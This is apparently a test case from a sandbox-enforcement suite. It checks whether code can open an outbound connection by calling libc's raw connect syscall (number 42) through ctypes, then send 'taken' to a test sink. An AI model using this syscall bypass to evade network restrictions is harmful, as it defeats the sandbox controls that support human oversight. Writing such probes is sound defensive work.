# class: symbols
# rule: outbound_connectivity
# also: native_code
# needs: x86_64
# success: a connection goes out by libc's syscall
# proof: sink
import ctypes
import socket

from attack import SINK, address, attempt, libc


@attempt
def connect():
    out = socket.socket()
    where = address(*SINK)
    if (
        libc().syscall(
            ctypes.c_long(42), ctypes.c_long(out.fileno()), where, ctypes.c_long(len(where))
        )
        != 0
    ):
        raise OSError(ctypes.get_errno(), "syscall")
    return out.send(b"taken") == 5
